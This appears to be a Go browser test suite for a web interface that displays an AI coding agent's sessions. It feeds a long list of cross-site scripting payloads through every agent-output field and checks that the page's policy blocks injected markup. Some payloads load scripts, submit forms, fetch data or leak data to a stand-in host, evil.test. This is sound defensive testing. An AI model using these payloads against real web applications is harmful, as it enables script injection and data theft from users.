package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// hostile are texts that have taken over some page, somewhere. What each field
// makes of them is looked at without a browser as well, for all fields.
var hostile = []string{
	`<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>`,
	`"><script src=//evil.test/x.js></script>' onmouseover='alert(1)' " autofocus onfocus="alert(1)" style="position:fixed`,
	`</div></main></details></pre></section></bdi></textarea></title></style></script><script>alert(1)</script><h1>owned</h1>`,
	`<!-- --><!--><script>alert(1)</script>--!><![CDATA[<script>alert(1)</script>]]>`,
	`<form action=/logout method=post><button>Approve once</button></form><base href=//evil.test/><link rel=stylesheet href=//evil.test/x><meta http-equiv=refresh content=0;url=//evil.test>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//evil.test/x></object><embed src=//evil.test/x><video src=//evil.test/x onerror=alert(1)>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"><template><noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](java&#10;script:alert(1)) <javascript:alert(1)> [d](data:text/html,<script>alert(1)</script>) [e](vbscript:x)`,
	`[a](//evil.test) [b](/logout) [c](\\evil.test) [d](#dock) [e](?x) [f](s/1/delete) <//evil.test> [g](http://evil.test/plain)`,
	`![x](http://evil.test/leak?q=1) ![y](//evil.test/x) ![z](data:image/svg+xml,<svg/onload=alert(1)>) ![](/logout)`,
	"[a]: javascript:alert(1)\n[b]: //evil.test \"onclick=\"\n\n[a] [b] ![a] ![b]",
	"\\`<script>alert(1)</script>\\` ``<b>`` `\\`<img src=x onerror=alert(1)>",
	"    ```\n<script>alert(1)</script>\n    ```\n<img src=x onerror=alert(1)>",
	"```\n~~~\n<script>alert(1)</script>\n~\n``` ~\n<img src=x onerror=alert(1)>\n```\n<svg onload=alert(1)>",
	"```js\" onmouseover=\"alert(1)\" class=\"\n1\n```\n```'><script>alert(1)</script>\n2\n```",
	"```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]; click A \"javascript:alert(1)\"\n```\n```html\n<script>alert(1)</script>\n```",
	"| <script>alert(1)</script> | `|` |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n\n- [x] <input onclick=alert(1)>",
	"x\u202e\u2066gpj.exe\u2069\u202c\u200b\u00a0\ufeff\u2028\u2029 &lt;script&gt;alert(1)&lt;/script&gt;",
	"\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\ \x1b]8;;//evil.test\x07go\x1b]8;;\x07 \x1b]1337;File=inline=1:PHNjcmlwdD4=\x07 \x1b]52;c;eA==\x07",
	"\x1b[31m<script>alert(1)</script>\x1b[0m \x1bP1$r<b>\x1b\\ \u009b31m \x00<scr\x00ipt>alert(1)</scr\x00ipt>\r<img src=x onerror=alert(1)>",
}

// inert returns what is on the page that no text may make: elements and attributes
// that nod does not use, controls among what the agent said, links that run or stay.
const inert = `(() => {
	const attributes = {
		html: 'lang', meta: 'charset name content', link: 'rel href', script: 'defer nonce src', a: 'href rel target', details: 'open',
		time: 'datetime', form: 'method action', textarea: 'name placeholder rows required spellcheck autofocus maxlength disabled',
		button: 'name value form formnovalidate disabled', input: 'type name value required placeholder inputmode autocomplete checked autocapitalize spellcheck list',
		datalist: '', fieldset: 'disabled', option: 'value label', bdi: 'dir', ol: 'start', li: '', label: 'for',
	};
	const plain = 'head title body main nav header aside section article div p span b i em strong small code pre ul table thead tbody ' +
		'tr th td blockquote hr br del ins mark h1 h2 h3 h4 h5 h6 summary figure figcaption legend';
	const everywhere = /^(class|id|hidden|role|tabindex|aria-[a-z]+|data-[a-z]+)$/;
	for (const name of plain.split(' ')) attributes[name] = '';
	const wrong = [];
	for (const e of document.querySelectorAll('*')) {
		const own = attributes[e.localName];
		if (own === undefined || e.namespaceURI !== 'http://www.w3.org/1999/xhtml') wrong.push('<' + e.localName + '>');
		for (const a of e.attributes)
			if (!everywhere.test(a.name) && !(own ?? '').split(' ').includes(a.name)) wrong.push(e.localName + '[' + a.name + '=' + a.value + ']');
	}
	for (const e of document.querySelectorAll('#turns :is(form, button, input, textarea), .list :is(form, button), #head :is(form, button), #plan :is(form, button)'))
		wrong.push('a control: ' + e.outerHTML);
	for (const a of document.links) {
		const to = a.getAttribute('href');
		const ok = a.closest('.prose') ? /^(https?:\/\/|mailto:)/.test(to) || /^\/s\/[a-z0-9-]+\/turns\//.test(to) : /^(\/$|#|\/(s|new|devices|archive|approvals|older|shares)\b)/.test(to);
		if (!ok) wrong.push('a link to ' + to);
		if (a.target && !/noopener/.test(a.rel)) wrong.push('a link that lets in who it opens: ' + to);
	}
	if (document.scripts.length !== 1) wrong.push(document.scripts.length + ' scripts');
	for (const f of document.forms) if (new URL(f.action).origin !== location.origin) wrong.push('a form to ' + f.action);
	return [...new Set(wrong)];
})()`

// guard watches what a page does that it must not.
type guard struct {
	b *browser

	mu       sync.Mutex
	requests []string // all
	dialogs  []string
}

// guarded begins to watch a browser. Each document notes what its policy stops.
func (b *browser) guarded() *guard {
	b.t.Helper()
	g := &guard{b: b}
	requests, dialogs := chromedp.Events(b.ctx, network.RequestWillBeSent), chromedp.Events(b.ctx, page.JavascriptDialogOpening)
	for _, err := range []error{
		second(chromedp.Call(b.ctx, network.Enable, network.EnableParams{})),
		second(chromedp.Call(b.ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: `
			window.stopped = [];
			addEventListener('securitypolicyviolation', e => stopped.push(e.effectiveDirective + ' ' + e.blockedURI));`})),
	} {
		if err != nil {
			b.t.Fatal(err)
		}
	}
	go func() {
		for e, err := range requests {
			if err != nil {
				return
			}
			g.mu.Lock()
			g.requests = append(g.requests, e.Request.URL)
			g.mu.Unlock()
		}
	}()
	go func() {
		for e, err := range dialogs {
			if err != nil {
				return
			}
			g.mu.Lock()
			g.dialogs = append(g.dialogs, e.Message)
			g.mu.Unlock()
			_, _ = chromedp.Call(b.ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
		}
	}()
	return g
}

// harmless looks at the page, and at what it did until now.
func (g *guard) harmless(base, when string) {
	g.b.t.Helper()
	if wrong := eval[[]string](g.b, inert); len(wrong) > 0 {
		g.b.t.Errorf("%s: %q", when, wrong[:min(len(wrong), 10)])
	}
	if stopped := eval[[]string](g.b, "window.stopped"); len(stopped) > 0 {
		g.b.t.Errorf("%s: the policy had to stop %q", when, stopped)
	}
	g.mu.Lock()
	defer g.mu.Unlock()
	if len(g.requests) == 0 {
		g.b.t.Error("no request was seen at all")
	}
	for _, r := range g.requests {
		if !strings.HasPrefix(r, base+"/") {
			g.b.t.Errorf("%s: a request for %s", when, r)
		}
	}
	if len(g.dialogs) > 0 {
		g.b.t.Errorf("%s: dialogs: %q", when, g.dialogs)
	}
}

// attack has the agent put a text into everything that it can say.
func attack(s *scene, text string) {
	change := []any{
		object{"path": "/tmp/" + text, "kind": object{"type": "update", "move_path": "/tmp/to " + text}, "diff": "@@ -1 +1 @@ " + text + "\n-" + text + "\n+" + text + "\n"},
		object{"path": text, "kind": object{"type": "add"}, "diff": text},
		object{"path": text + ".go", "kind": object{"type": "delete"}, "diff": "package " + text},
	}
	s.notify("thread/name/updated", object{"threadName": text})
	s.think(text+"think", text)
	for _, piece := range strings.SplitAfter(text, ">") { // as a model writes it
		s.say(text+"say", piece)
	}
	s.say(text+"say", "\n\n"+text+"\n\n> "+text+"\n\n1. "+text+"\n\n# "+text+"\n\n`"+text+"`\n\n**"+text+"**\n")
	s.notify("turn/plan/updated", object{"plan": []any{object{"step": text, "status": "inProgress"}, object{"step": text, "status": text}}})
	s.run(text+"run", text)
	s.write(text+"run", text+"\n"+text)
	s.ran(text+"run", text)
	s.begin(object{"type": "commandExecution", "id": text + "run2", "command": "sh -c " + text, "cwd": "/" + text, "status": text, "commandActions": []any{object{"command": text}}})
	s.done(object{"type": "commandExecution", "id": text + "run2", "command": text, "cwd": "/" + text, "status": "failed " + text, "aggregatedOutput": text})
	s.begin(object{"type": text, "id": text + "other"})
	s.begin(object{"type": "fileChange", "id": text + "edit", "status": "inProgress", "changes": change})
	s.begin(object{"type": "fileChange", "id": text + "edited", "status": "inProgress", "changes": change})
	s.done(object{"type": "fileChange", "id": text + "edited", "status": text, "changes": change})
	s.notify("warning", object{"message": text})
	s.notify("error", object{"error": object{"message": text}, "willRetry": true})
	s.notify("x/"+text, object{"anything": text})
	s.begin(command(text+"ask", text, "inProgress"))
	s.ask("item/commandExecution/requestApproval", object{"itemId": text + "ask", "command": text, "cwd": "/" + text, "reason": text})
	s.ask("item/commandExecution/requestApproval", object{"itemId": text + "ask", "command": text, "cwd": "/" + text, "reason": text, text: text})
	s.ask("item/fileChange/requestApproval", object{"itemId": text + "edit", "reason": text, "grantRoot": "/" + text})
	s.ask("item/tool/requestUserInput", object{"itemId": text, "questions": []any{
		object{"id": text, "header": text, "question": text, "isOther": true, "options": []any{object{"label": text, "description": text}}},
		object{"id": text + "2", "header": text, "question": text},
	}})
	s.ask("x/"+text, object{"anything": text, text: 1})
	s.ask("item/commandExecution/requestApproval", object{"itemId": text, "networkApprovalContext": object{"host": text, "protocol": text}, "proposedNetworkPolicyAmendments": []any{object{"host": text, "action": "allow"}}})
	s.ask("item/permissions/requestApproval", object{"itemId": text, "reason": text, "permissions": object{"fileSystem": object{"write": []any{text}}}})
	s.ask("item/tool/call", object{"callId": text, "tool": text, "namespace": text, "arguments": object{text: text}})
	mcp := func(more object) {
		more["serverName"], more["message"] = text, text
		s.ask("mcpServer/elicitation/request", more)
	}
	mcp(object{"mode": "form", "_meta": object{text: text}, "requestedSchema": object{"type": "object", "properties": object{
		text:       object{"type": "string", "title": text, "description": text, "default": text},
		text + "2": object{"type": "string", "format": text, "enum": []any{text}, "enumNames": []any{text}, "default": text},
		text + "3": object{"type": "array", "items": object{"anyOf": []any{object{"const": text, "title": text}}}, "default": []any{text}},
	}}})
	mcp(object{"mode": "form", "_meta": object{"codex_approval_kind": "mcp_tool_call", "tool_name": text, "tool_params": object{text: text}, "tool_description": text}, "requestedSchema": object{"type": "object", "properties": object{}}})
	mcp(object{"mode": "url", "elicitationId": text, "url": "javascript:alert(1)//" + text})
	mcp(object{"mode": text})
}

// cardsOfAttack is how many of these become cards.
const cardsOfAttack = 12

// TestC39HostileAgent has the agent say hostile things wherever it can say
// anything: while it streams, when the turn has failed, and on a page that is
// loaded anew, there is nothing that does anything.
func TestC39HostileAgent(t *testing.T) {
	t.Parallel()
	w, p := newPuppetWorld(t)
	p.model, p.agent = "model "+hostile[0]+hostile[1], `nod/<img/src=x/onerror=alert(1)> "'`
	w.folder = filepath.Join(w.folder, `"><img src=x onerror=alert(1)><svg onload='alert(1)'>`)
	if err := os.Mkdir(w.folder, 0o755); err != nil {
		t.Fatal(err)
	}
	c := w.observer()
	b := newBrowser(t, desk)
	g := b.guarded()
	b.loggedIn(w, false)
	path, s := w.newSession(c, p, hostile[0]+hostile[2])
	b.goTo(w.base + path)
	b.until("the page", "document.getElementById('turns')")
	for i, text := range hostile {
		when := fmt.Sprintf("%q", text)
		attack(s, text)
		s.say(s.id+"end", fmt.Sprintf("That was attack%02d.", i))
		b.untilText("#turns .prose", fmt.Sprintf("attack%02d", i))
		b.until("all cards", fmt.Sprintf("document.querySelectorAll('.card').length === %d", cardsOfAttack))
		b.do(chromedp.Evaluate[chromedp.Void]("document.querySelectorAll('details').forEach(d => { d.open = true; })"))
		g.harmless(w.base, when+", streamed")
		if i%4 == 0 { // the confirm page has the same boxes
			b.click(".card button.more-than-once.approve")
			b.until("the confirm page", "document.querySelector('main.narrow .bytes')")
			g.harmless(w.base, when+", to be confirmed")
			b.goTo(w.base + path)
			b.until("the page", fmt.Sprintf("document.querySelectorAll('.card').length === %d", cardsOfAttack))
			g.harmless(w.base, when+", loaded")
		}
		s.notify("turn/completed", object{"turn": object{"id": s.id, "status": "failed", "durationMs": 1, "error": object{"message": text, "codexErrorInfo": text, "additionalDetails": text}}})
		b.until("the failure", fmt.Sprintf("document.querySelectorAll('.foot .failed').length >= %d", 1))
		b.until("the end", "document.querySelector('.send button')")
		g.harmless(w.base, when+", failed")
		if t.Failed() {
			return
		}
		s = s.again(text)
	}
	s.say(s.id+"end", "The last word.")
	b.untilText("#turns .prose", "The last word.")
	b.goTo(w.base + path)
	b.until("the page", "document.getElementById('turns')")
	g.harmless(w.base, "loaded at the end")
	b.goTo(w.base + "/")
	b.untilText("h2.group", "Agents")
	g.harmless(w.base, "the list of sessions")
	if c := b.complaints(); len(c) > 0 {
		t.Errorf("the browser complains: %q", c)
	}
}

// TestC39PolicyStopsTheRest puts markup into the page that nod would never send, on
// its way to the browser: the policy stops each kind, and says so.
func TestC39PolicyStopsTheRest(t *testing.T) {
	t.Parallel()
	w, p := newPuppetWorld(t)
	c := w.observer()
	path, _ := w.newSession(c, p, "A page that was tampered with")
	x, b := newWire(t, w), newBrowser(t, desk)
	b.provoked = true
	g := b.guarded()
	b.goTo(strings.Replace(w.login, w.base, x.URL, 1))
	b.untilText("h2.group", "Agents")
	evil := strings.Replace(x.URL, "127.0.0.1", "evil.test", 1)
	x.set(func() {
		x.alter = func(html string) string {
			return strings.Replace(html, `<div id="page"`, strings.ReplaceAll(`
				<script>window.ran = 'a script'</script>
				<script src="EVIL/script.js"></script>
				<script src="data:text/javascript,window.ran='data'"></script>
				<img src="EVIL/image.png" onerror="window.ran = 'onerror'">
				<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.ran = 'onload'">
				<svg onload="window.ran = 'svg'"></svg>
				<style>body { --ran: yes }</style>
				<p id="styled" style="--ran: yes"></p>
				<link rel="stylesheet" href="EVIL/style.css">
				<iframe src="EVIL/frame"></iframe>
				<iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
				<object data="EVIL/object"></object>
				<video src="EVIL/video"></video>
				<base href="EVIL/">
				<a id="run" href="javascript:window.ran = 'a link'">run</a>
				<form id="leak" action="EVIL/form" method="get"><button>leak</button></form>
				<div id="page"`, "EVIL", evil), 1)
		}
	})
	b.goTo(x.URL + path)
	b.until("the page", "document.getElementById('turns') && window.stopped.length >= 12")
	b.do(chromedp.Evaluate[chromedp.Void]("document.getElementById('run').click()"),
		chromedp.Evaluate[chromedp.Void]("document.getElementById('leak').requestSubmit()"),
		chromedp.Evaluate[chromedp.Void](`fetch('`+evil+`/fetch').catch(() => 0)`),
		chromedp.Evaluate[chromedp.Void](`try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 1">') } catch {}`),
		chromedp.Evaluate[chromedp.Void](`try { setTimeout('window.ran = "eval"') } catch {}`),
		chromedp.Evaluate[chromedp.Void](`try { trustedTypes.createPolicy('other', { createHTML: s => s }) } catch {}`),
	)
	for directive, blocked := range map[string]string{
		"script-src-elem": "inline", "script-src-attr": "inline", "style-src-elem": "inline", "style-src-attr": "inline", "base-uri": evil,
		"img-src": evil, "frame-src": evil, "object-src": evil, "media-src": evil, "form-action": evil, "connect-src": evil,
		"require-trusted-types-for": "trusted-types-sink", "trusted-types": "trusted-types-policy",
	} {
		b.until(directive, fmt.Sprintf("window.stopped.some(s => s.startsWith(%q))", directive+" "+blocked))
	}
	for what, expression := range map[string]string{
		"data: scripts":    "window.stopped.some(s => s.startsWith('script-src-elem data'))",
		"data: images":     "window.stopped.some(s => s.startsWith('img-src data'))",
		"remote scripts":   fmt.Sprintf("window.stopped.some(s => s.startsWith('script-src-elem %s'))", evil),
		"remote styles":    fmt.Sprintf("window.stopped.some(s => s.startsWith('style-src-elem %s'))", evil),
		"nothing has run":  "window.ran === undefined",
		"nothing is drawn": "getComputedStyle(document.body).getPropertyValue('--ran') === '' && getComputedStyle(document.getElementById('styled')).getPropertyValue('--ran') === ''",
	} {
		b.until(what, expression)
	}
	if len(g.dialogs) > 0 {
		t.Errorf("dialogs: %q", g.dialogs)
	}
	x.set(func() {
		if len(x.strange) > 0 { // evil.test is this wire as well
			t.Errorf("what was stopped has left all the same: %q", x.strange)
		}
	})
}
